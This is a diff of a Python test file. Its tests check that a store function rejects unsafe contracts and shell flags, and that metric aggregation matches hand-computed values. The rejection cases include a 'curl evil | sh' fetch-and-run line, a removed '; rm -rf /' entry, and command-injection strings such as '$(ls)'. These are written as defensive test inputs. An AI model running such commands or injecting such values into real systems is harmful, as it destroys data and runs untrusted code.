@@ -140,15 +140,7 @@ def test_contracts_are_bounded():
         for contract in ({"a": "64\n run: curl evil | sh"}, {"\x1b[2J": "x"}, {"a": "\u202e46"}):
             assert not store(contract)
         # people may paste the flags into a shell
-        for flags in (
-            "; rm -rf /",
-            "--seed 1; ls",
-            "--seed $(ls)",
-            "--seed 1\n--fp16",
-            "--seed 1 2",
-            "--a /home/ada",
-            "ls",
-        ):
+        for flags in ("; ls", "--seed 1; ls", "--seed $(ls)", "--seed 1\n--fp16", "--seed 1 2", "--a /home/ada", "ls"):
             assert not store({"a": "1"}, flags)
         assert not store({f"{i:064d}": "ä" * 200 for i in range(32)})
         contract = {f"{i:064d}": "x" * 200 for i in range(32)}
@@ -167,13 +159,12 @@ def test_dead_dht_gives_no_records():
 
 
 def test_aggregation_matches_hand_computed_values():
+    later = {"epoch_seconds": 8.0}
     records = [
         ("a", make_metrics(10, loss=20.0, mini_steps=4, samples_accumulated=100, grad_norm=1.0)),
         (
             "b",
-            make_metrics(
-                9, loss=12.0, mini_steps=1, samples_accumulated=28, grad_norm=3.0, averaged_with=1, epoch_seconds=8.0
-            ),
+            make_metrics(9, loss=12.0, mini_steps=1, samples_accumulated=28, grad_norm=3.0, averaged_with=1, **later),
         ),
         ("stale", make_metrics(2, loss=900.0, mini_steps=1, samples_accumulated=1000)),
     ]
